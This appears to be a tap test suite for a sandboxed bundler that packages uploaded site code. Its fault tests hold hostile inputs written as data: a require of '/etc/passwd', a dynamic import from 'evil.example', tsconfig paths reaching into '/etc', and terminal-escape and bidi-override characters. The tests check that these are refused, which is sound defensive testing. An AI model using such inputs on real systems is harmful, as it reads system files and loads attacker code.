import t from 'tap'
import { codeFrame } from '../../../sandbox/bundle/code-frame.ts'
import { withoutComments } from '../../../sandbox/bundle/site-tsconfig.ts'
import { toSourceName } from '../../../sandbox/bundle/source-names.ts'
import { bundleFiles, exportOf, runBundle } from './fixtures/site.ts'

t.test('one file', async (t) => {
  const bundle = await bundleFiles({ '_worker.js': 'export default { fetch(request) { return request.url } }' })
  const site = runBundle(bundle) as { fetch(request: object): string }
  t.equal(site.fetch({ url: 'x' }), 'x')
  t.same(bundle.inputs, ['_worker.js'])
  t.same(bundle.wasm, [])
  t.same(bundle.warnings, [])
  t.ok(JSON.parse(bundle.map).sources.includes('_worker.js'))
  t.notOk(JSON.parse(bundle.map).sourcesContent)
})

t.test('several files, in TypeScript, with what else is imported', async (t) => {
  const files = {
    'src/index.ts': `
      import { greet, type Name } from './greet.js'
      import config from '../config.json'
      import text from './page.html'
      import readme from './notes.unknown' with { type: 'text' }
      import bytes from './data.bin'
      import module from './add.wasm'
      import other from 'pkg/add.wasm?module'
      import { Thing } from 'pkg'
      const legacy = require('./legacy')
      enum Color { Red = 'red' }
      const name: Name = 'you'
      export default { value: [greet(name), config.deep.a, text, readme, bytes.length, module, other, new Thing().x, legacy.y, Color.Red, Thing.name] }
      export class Extra {}`,
    'src/greet.ts': 'export type Name = string\nexport const greet = (name: Name): string => "Hello " + name',
    'config.json': { deep: { a: 1 } },
    'src/page.html': '<p>ü</p>',
    'src/notes.unknown': 'notes',
    'src/data.bin': Uint8Array.of(1, 2, 3),
    'src/add.wasm': Uint8Array.of(0, 0x61),
    'src/legacy.js': 'var self = this; exports.y = typeof self; with_ = 1; var with_',
    'node_modules/pkg/package.json': {
      exports: { '.': { workerd: './w.js', node: './n.js' }, './*.wasm': './*.wasm' },
    },
    'node_modules/pkg/w.js': 'export class Thing { x = "workerd" }',
    'node_modules/pkg/n.js': 'export class Thing { x = "node" }',
    'node_modules/pkg/add.wasm': Uint8Array.of(9),
  }
  const bundle = await bundleFiles(files, { entry: 'src/index.ts' })
  const site = runBundle(bundle) as { value: unknown[] }
  t.same(
    [...site.value],
    [
      'Hello you',
      1,
      '<p>ü</p>',
      'notes',
      3,
      Uint8Array.of(0, 0x61),
      Uint8Array.of(9),
      'workerd',
      'object',
      'red',
      'Thing',
    ],
  )
  t.same(
    bundle.wasm.map(({ name }) => name),
    ['node_modules/pkg/add.wasm', 'src/add.wasm'],
  )
  t.ok(bundle.inputs.includes('node_modules/pkg/w.js'))
  t.notMatch(bundle.map, /tree:|\/work|wasm:/)
  t.equal((await bundleFiles(files, { entry: 'src/index.ts' })).code, bundle.code, 'the same code comes out each time')
})

t.test('a module of WebAssembly with a long path has a short name', async (t) => {
  const path = `${'deep/'.repeat(40)}x.wasm`
  const bundle = await bundleFiles({
    '_worker.js': `import m from "./${path}"; export default m`,
    [path]: Uint8Array.of(7),
  })
  t.match(bundle.wasm[0]?.name, /^[0-9a-f]{64}\.wasm$/)
  t.same(runBundle(bundle), Uint8Array.of(7))
})

t.test('what libraries find around them', async (t) => {
  t.equal(await exportOf({ '_worker.js': 'export default process.env.NODE_ENV' }), 'production')
  t.equal(
    await exportOf({ '_worker.js': 'export default process.env.NODE_ENV' }, { mode: 'development' }),
    'development',
  )
  t.equal(await exportOf({ '_worker.js': 'export default typeof global.Array' }), 'function')
  t.equal(await exportOf({ '_worker.js': 'module.exports = 5' }), 5, 'a module of CommonJS is its own default')
  t.equal(
    await exportOf({ '_worker.js': 'let fs; try { fs = require("fs") } catch { fs = "none" } export default fs' }),
    'none',
    'what is guarded may be missing',
  )
  t.equal(
    await exportOf({
      '_worker.js': 'import fs from "fs"; export default typeof fs.readFile',
      'package.json': { browser: { fs: false } },
    }),
    'undefined',
  )
  t.equal(
    await exportOf({
      '_worker.js': 'import "pure"; import { a } from "pure"; import "impure"; export default globalThis.seen',
      'node_modules/pure/package.json': { sideEffects: false },
      'node_modules/pure/index.js': 'globalThis.seen = "pure"; export const a = 1',
      'node_modules/impure/index.js': 'globalThis.seen = "impure"',
    }),
    'impure',
  )
})

t.test('JSX by the tsconfig of the upload', async (t) => {
  const files = {
    'index.tsx': 'export default <b class="x">{1}</b>',
    'node_modules/dom/package.json': { exports: { './jsx-runtime': './jsx.js' } },
    'node_modules/dom/jsx.js':
      'export const jsx = (tag, props) => "<" + tag + " " + props.class + ">" + props.children',
    'tsconfig.json':
      '\ufeff{ // comment\n "extends": "/etc/tsconfig", "compilerOptions": { /* a */ "jsx": "react-jsx", "jsxImportSource": "dom", "target": "es3", "paths": {"*": ["/etc/*"]}, }, }',
  }
  t.equal(await exportOf(files, { entry: 'index.tsx' }), '<b x>1')
  const pragma = {
    ...files,
    'index.tsx': '/** @jsxImportSource dom */ export default <b class="y">{2}</b>',
    'tsconfig.json': '{}',
  }
  t.equal(await exportOf(pragma, { entry: 'index.tsx' }), '<b y>2', 'a file may name its library')
  await t.rejects(bundleFiles({ 'index.jsx': 'export default <b/>' }, { entry: 'index.jsx' }), {
    message: /cannot import "react\/jsx-runtime": there is no such package/,
  })
  t.equal(
    withoutComments('{"a": "//x /* y */ ,}", /* , */ "b": [1, 2, ], // end\n}'),
    '{"a": "//x /* y */ ,}",  "b": [1, 2 ] \n}',
  )
  for (const tsconfig of [
    '{',
    '[]',
    '{"compilerOptions": 1}',
    '{"compilerOptions": {"jsx": 7}}',
    `{"a": "${'x'.repeat(20_000)}"}`,
  ])
    t.equal(await exportOf({ '_worker.js': 'export default 1', 'tsconfig.json': tsconfig }), 1)
})

t.test('faults, with file, line, column and the line itself', async (t) => {
  const fault = async (files: Readonly<Record<string, string>>, entry = '_worker.js') => {
    try {
      await bundleFiles(files, { entry })
    } catch (error) {
      const { code, message, details } = error as { code: string; message: string; details: unknown }
      t.equal(code, 'ERR_CODE')
      t.notMatch(message, /tree:|entry:|grove-tree|plugin/)
      return { message, details }
    }
    throw new Error('it was taken')
  }
  t.same(await fault({ '_worker.js': "import fs from 'node:fs'\nexport default fs" }), {
    message:
      '_worker.js:1:16: cannot import "node:fs": it is part of Node, and site code runs outside of Node\n1 | import fs from \'node:fs\'\n  |                ^^^^^^^^^',
    details: {
      faults: [
        {
          file: '_worker.js',
          line: 1,
          column: 16,
          text: 'cannot import "node:fs": it is part of Node, and site code runs outside of Node',
        },
      ],
    },
  })
  const two = await fault(
    {
      'src/a.ts': "import './b'\nexport default 1",
      'src/b.ts': "const ü = 'ü'; import 'none'\n\timport './c'",
    },
    'src/a.ts',
  )
  t.match(two.message, /^src\/b\.ts:1:23: cannot import "none": there is no such package in node_modules\n/)
  t.match(
    two.message,
    /\nsrc\/b\.ts:2:9: cannot import "\.\/c": there is no such file\n2 | {3}import '\.\/c'\n {2}| {10}\^\^\^\^\^/,
  )
  t.match((await fault({ '_worker.js': 'export default {\n  fetch( {\n}' })).message, /^_worker\.js:\d:\d+: .*\n\d \| /)
  t.match(
    (await fault({ '_worker.js': 'export const x = 1' })).message,
    /^_worker\.js: it has no default export: expected "export default/,
  )
  t.match(
    (await fault({ '_worker.js': 'await 1; export default 1' })).message,
    /_worker\.js:1:1: await at the top of a module is not available/,
  )
  t.match((await fault({})).message, /_worker\.js: there is no such file/)
  t.match(
    (await fault({ '_worker.js': 'import x from "./a.png"; export default x', 'a.png': '' })).message,
    /"a\.png" is of no kind that code can import/,
  )
  t.match(
    (await fault({ '_worker.js': 'import x from "./a.json"; export default x', 'a.json': '{' })).message,
    /^a\.json:1:2: /,
  )
  t.match(
    (await fault({ '_worker.js': 'export default (x) => import("./a/" + x + ".js")' })).message,
    /whose path is put together/,
  )
  t.match(
    (await fault({ '_worker.js': 'try { require("/etc/passwd") } catch {} export default 1' })).message,
    /write the path relative/,
  )
  t.match(
    (await fault({ '_worker.js': 'import x from "data:text/javascript,export default 1"; export default x' })).message,
    /only files of the site/,
  )
  t.match(
    (await fault({ '_worker.js': 'import("https://evil.example/x.js").catch(() => 1); export default 1' })).message,
    /only files of the site/,
  )
  t.notMatch(
    (await fault({ '_worker.js': 'import "./\\u001b[31m\\u202e"; export default 1' })).message,
    /[^\n\x20-\x7e\ufffd]/,
  )
  const many = await fault({ '_worker.js': Array.from({ length: 30 }, (_, i) => `import './x${i}'`).join('\n') })
  t.match(many.message, /\nand 2\d more$/)
  t.equal((many.details as { faults: unknown[] }).faults.length, 10)
  const long = await fault({ '_worker.js': `${'var a = 1;'.repeat(50_000)}import 'none';export default 1` })
  t.ok(long.message.length < 500, 'a long line is shown in part')
  t.match(long.message, /… 1;var a = 1;.*import 'none'/)
})

t.test('a bundle that is too large, and what is large in it', async (t) => {
  await t.rejects(
    bundleFiles(
      { '_worker.js': 'import x from "./big.txt"; export default x', 'big.txt': 'x'.repeat(10_000) },
      { bundleBytes: 5_000 },
    ),
    {
      code: 'ERR_CODE',
      message: /the bundle has 1\d{4} bytes, more than 5000/,
      details: { most: 5_000 },
      hint: /big\.txt 1\d{4}/,
    },
  )
})

t.test('errors of the tree come through', async (t) => {
  const { bundleHere } = await import('../../../sandbox/bundle/bundle-here.ts')
  await t.rejects(
    bundleHere({ entry: 'a.js', bundleBytes: 1_000 }, async () => {
      throw new Error('the disk is gone')
    }),
    { message: 'the disk is gone' },
  )
})

t.test('warnings', async (t) => {
  const { warnings } = await bundleFiles({ '_worker.js': 'export default { a: 1, a: 2, url: import.meta.url }' })
  t.match(warnings[0], /^_worker\.js:1:\d+: /)
})

t.test('frames', (t) => {
  t.equal(codeFrame('const a = b', { line: 7, column: 10 }), '7 | const a = b\n  |           ^')
  t.equal(codeFrame('\tx', { line: 10, column: 1, length: 99 }), '10 |   x\n   |   ^')
  t.equal(codeFrame('', { line: 1, column: 0 }), '1 |\n  | ^')
  t.equal(codeFrame('a\u001b[31mb\u0007c', { line: 1, column: 0 }), '1 | a\ufffd[31mb\ufffdc\n  | ^')
  t.equal(codeFrame('x'.repeat(500), { line: 1, column: 300 }).split('\n')[0]?.length, 4 + 122)
  t.end()
})

t.test('names of sources', (t) => {
  for (const [path, name] of [
    ['tree:src/a.ts', 'src/a.ts'],
    ['src/a.ts', 'src/a.ts'],
    ['../../node_modules/.pnpm/x@1/node_modules/x/a.js', 'node_modules/x/a.js'],
    ['../secret/project/a.ts', 'a.ts'],
    ['/home/me/a.ts', 'a.ts'],
    ['C:\\me\\node_modules\\x\\a.js', 'node_modules/x/a.js'],
  ] as const)
    t.equal(toSourceName(path), name, path)
  t.end()
})
